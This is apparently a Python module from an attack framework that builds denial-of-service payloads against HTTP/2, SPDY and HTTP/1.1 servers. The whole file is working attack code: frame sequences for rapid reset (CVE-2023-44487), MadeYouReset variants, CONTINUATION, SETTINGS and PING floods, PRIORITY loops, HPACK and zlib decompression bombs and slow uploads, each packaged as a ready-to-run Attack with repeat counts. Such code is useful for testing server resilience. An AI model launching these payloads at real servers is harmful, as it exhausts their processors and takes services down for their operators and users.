"""Attacks that make a server work: much of what costs its sender little."""

import zlib
from collections.abc import Callable, Sequence

from attacks import h2, http1, spdy
from attacks.attack import Aim, Attack
from attacks.client import Pace, at_once
from attacks.h2 import streams
from attacks.memory import STREAMS, VALUE
from attacks.protocol import LARGE, UPLOAD, Heard

REPEATS = 20
"""How often the attacker connects again when the server has had enough."""
OPEN = h2.opening()
GET = h2.request()
POST = h2.request(h2.POST, UPLOAD)
BATCH = 50
"""Requests at a time, where responses are awaited; half of what may be open."""
SLICE = 1000
"""Bytes of DATA at a time, where windows are respected."""


def answered(number: int, heard: Heard) -> bool:
    """Wait with each batch for the responses to the one before, or for their being refused."""
    return heard.completed + heard.resets >= (number - 1) * BATCH


def within_windows(number: int, heard: Heard) -> bool:
    """Send DATA as far as the windows of the connection and of the first stream allow."""
    window = min(h2.DEFAULT_WINDOW + heard.window[0], heard.initial_window + heard.window[1])
    return window >= number * SLICE


def within_the_window(number: int, heard: Heard) -> bool:
    """Send DATA as far as the connection's window allows, which is enough where it goes to many streams."""
    return h2.DEFAULT_WINDOW + heard.window[0] >= number * SLICE


def repeated(begin: bytes, again: bytes, times: int) -> list[bytes]:
    """Send the same many times."""
    return [begin, again * times]


def reset_by(offence: Callable[[int], bytes], times: int) -> list[bytes]:
    """Open streams, each with a frame behind that ends it."""
    return [OPEN, b"".join(h2.headers(stream, GET) + offence(stream) for stream in streams(times))]


def priority(stream: int, dependency: int) -> bytes:
    """Write PRIORITY."""
    return h2.frame(h2.PRIORITY, 0, stream, dependency.to_bytes(4) + b"\x10")


def priorities() -> list[bytes]:
    """Hang streams below one another, each in turn below the one that is below it."""
    idle = streams(STREAMS)
    loop = b"".join(priority(stream, idle[at - 1]) for at, stream in enumerate(idle))
    return repeated(OPEN, loop, 4_000)


def many_settings() -> list[bytes]:
    """Fill SETTINGS of 16 KiB."""
    return repeated(OPEN, h2.settings(*[(h2.MAX_CONCURRENT_STREAMS, STREAMS)] * 2_730), 1_000)


def continuations(fields: bytes, times: int) -> list[bytes]:
    """Begin a head that never ends."""
    return repeated(OPEN + h2.headers(1, GET, h2.END_STREAM), h2.frame(h2.CONTINUATION, 0, 1, fields), times)


def pad_only() -> list[bytes]:
    """Send DATA whose only byte says that there is no padding."""
    data = h2.frame(h2.DATA, h2.PADDED, 1, b"\0")
    return [OPEN + h2.headers(1, POST, h2.END_HEADERS), *[data * SLICE] * 400]


def single_bytes() -> list[bytes]:
    """Send uploads a byte at a time, to each of many in turn."""
    uploads = b"".join(h2.headers(stream, POST, h2.END_HEADERS) for stream in streams(STREAMS))
    data = b"".join(h2.frame(h2.DATA, 0, stream, b"x") for stream in streams(STREAMS))
    return [OPEN + uploads, *[data * (SLICE // STREAMS)] * 400]


def flapping() -> list[bytes]:
    """Open and close the windows of many responses together."""
    held = b"".join(h2.headers(stream, h2.request(path=LARGE)) for stream in streams(STREAMS))
    flap = h2.settings((h2.INITIAL_WINDOW_SIZE, 1)) + h2.settings((h2.INITIAL_WINDOW_SIZE, 0))
    return repeated(h2.opening(window=0) + held, flap, 100_000)


def batches(heads: Sequence[bytes]) -> list[bytes]:
    """Cut into what is sent at a time."""
    return [b"".join(heads[at : at + BATCH]) for at in range(0, len(heads), BATCH)]


def ordinary() -> list[bytes]:
    """Ask as any client may: what a server spends on bytes that are no attack."""
    heads = [h2.headers(stream, GET) for stream in streams(8_000)]
    return [OPEN + h2.window_update(0, 2**30), *batches(heads)]


def bombs(references: int) -> list[bytes]:
    """Send HPACK bombs whose responses are taken, so that there is always room for more."""
    first = GET + h2.literal(b"a", VALUE, remember=True)
    block = GET + references * h2.indexed(h2.NEWEST)
    heads = [h2.headers(stream, first if stream == 1 else block) for stream in streams(8_000)]
    return [OPEN + h2.window_update(0, 2**30), *batches(heads)]


def spdy_bombs() -> list[bytes]:
    """Do the same by zlib."""
    compress = spdy.compressor()
    block = spdy.head(a=b"x" * 250_000)
    heads = [spdy.syn_stream(stream, compress(block)) for stream in streams(2_000)]
    return [spdy.control(spdy.WINDOW_UPDATE, bytes(4) + (2**30).to_bytes(4)), *batches(heads)]


def spdy_large_bomb() -> list[bytes]:
    """Send one head that inflates to a hundred million bytes."""
    stream = zlib.compressobj(9, zdict=spdy.DICTIONARY)
    block = stream.compress(bytes([0, 0, 0, 1]) + bytes(100_000_000)) + stream.flush(zlib.Z_SYNC_FLUSH)
    return [spdy.syn_stream(1, block)]


def spdy_resets() -> list[bytes]:
    """Open streams of SPDY and give each up at once."""
    compress = spdy.compressor()
    opened = (
        spdy.syn_stream(stream, compress(spdy.head())) + spdy.rst_stream(stream) for stream in streams(40_000)
    )
    return [b"".join(opened)]


def attack(name: str, pieces: Callable[[], list[bytes]], pace: Pace = at_once) -> Attack:
    """Make an attack by HTTP/2."""
    return Attack(name, h2.PROTOCOL, Aim.PROCESSOR, pieces, pace, repeats=REPEATS)


def flood(name: str, again: bytes, times: int = 400_000, begin: bytes = b"") -> Attack:
    """Make an attack that sends the same frame again and again."""
    return attack(name, lambda: repeated(OPEN + begin, again, times))


def spdy_attack(name: str, pieces: Callable[[], list[bytes]], pace: Pace = at_once) -> Attack:
    """Make an attack by SPDY."""
    return Attack(name, spdy.PROTOCOL, Aim.PROCESSOR, pieces, pace, repeats=REPEATS)


def http1_attack(name: str, pieces: Callable[[], Sequence[bytes]]) -> Attack:
    """Make an attack by HTTP/1.1."""
    return Attack(name, http1.PROTOCOL, Aim.PROCESSOR, pieces, repeats=REPEATS)


UPLOADED = h2.headers(1, POST, h2.END_HEADERS)
CHUNKED = http1.head(UPLOAD, "POST", b"Transfer-Encoding: chunked\r\n")
LONG_HEAD = http1.head(fields=http1.padding(12_000))

ATTACKS = (
    attack("ordinary requests, answered", ordinary, answered),
    attack("rapid reset (CVE-2023-44487)", lambda: reset_by(h2.rst_stream, 40_000)),
    attack(
        "MadeYouReset (CVE-2025-8671), WINDOW_UPDATE of 0",
        lambda: reset_by(lambda stream: h2.window_update(stream, 0), 40_000),
    ),
    attack(
        "MadeYouReset, PRIORITY on itself",
        lambda: reset_by(lambda stream: priority(stream, stream), 40_000),
    ),
    attack(
        "MadeYouReset, DATA after END_STREAM",
        lambda: reset_by(lambda stream: h2.frame(h2.DATA, 0, stream, b"x"), 40_000),
    ),
    attack("CONTINUATION, fields of 100 bytes", lambda: continuations(h2.literal(b"a", b"x" * 96), 40_000)),
    attack("CONTINUATION, empty", lambda: continuations(b"", 400_000)),
    flood("SETTINGS", h2.settings(), 300_000),
    attack("SETTINGS of 2,730 entries", many_settings),
    flood("PING", h2.frame(h2.PING, 0, 0, bytes(8))),
    attack("PRIORITY, in loops", priorities),
    flood("DATA, empty", h2.frame(h2.DATA, 0, 1), begin=UPLOADED),
    attack("DATA of nothing but its pad length", pad_only, within_windows),
    attack("DATA of 1 byte, to 100 uploads", single_bytes, within_the_window),
    flood("WINDOW_UPDATE by 1", h2.window_update(0, 1)),
    flood("RST_STREAM on a closed stream", h2.rst_stream(1), begin=h2.headers(1, GET) + h2.rst_stream(1)),
    flood("frames of an unknown type", h2.frame(h2.UNKNOWN, 0, 0)),
    attack("initial window of 100 held streams, up and down", flapping),
    attack("HPACK bombs, answered", lambda: bombs(64), answered),
    attack("HPACK bombs of 15 references, answered", lambda: bombs(15), answered),
    spdy_attack("rapid reset", spdy_resets),
    spdy_attack("PING", lambda: [spdy.control(spdy.PING, (1).to_bytes(4)) * 400_000]),
    spdy_attack("SETTINGS", lambda: [spdy.settings((4, STREAMS)) * 300_000]),
    spdy_attack("NOOP", lambda: [spdy.control(spdy.NOOP, b"") * 400_000]),
    spdy_attack("a head of 100 MB in 100 KB", spdy_large_bomb),
    spdy_attack("heads of 250 KB in 380 bytes, answered", spdy_bombs, answered),
    http1_attack("heads of 12 KB, byte by byte", lambda: [bytes([byte]) for byte in LONG_HEAD] * 8),
    http1_attack("chunks of 1 byte", lambda: [CHUNKED, b"1\r\nx\r\n" * 500_000]),
)
